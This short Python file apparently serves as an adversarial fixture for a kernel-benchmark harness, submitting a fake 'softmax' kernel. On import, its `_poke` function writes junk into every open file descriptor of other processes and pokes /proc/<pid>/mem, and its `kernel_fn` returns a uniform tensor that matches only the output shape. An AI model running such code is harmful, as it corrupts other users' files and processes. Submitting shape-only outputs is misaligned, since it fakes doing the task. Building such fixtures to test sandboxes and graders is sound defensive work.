# expect: smoke or shapes
# target: softmax
# Opens the memory of other processes and writes ones into every map it may open.
import contextlib
import os

import torch


def _poke():
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:  # noqa: PTH208
        with contextlib.suppress(OSError):
            for fd in os.listdir(f"/proc/{pid}/fd"):  # noqa: PTH208
                with contextlib.suppress(OSError), open(f"/proc/{pid}/fd/{fd}", "r+b") as f:  # noqa: PTH123
                    f.write(b"\x01" * 4096)
        with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "r+b") as f:  # noqa: PTH123
            f.seek(0x400000)
            f.write(b"\x00")


_poke()


def kernel_fn(x):
    return torch.full_like(x, 1.0 / max(1, x.shape[-1]))
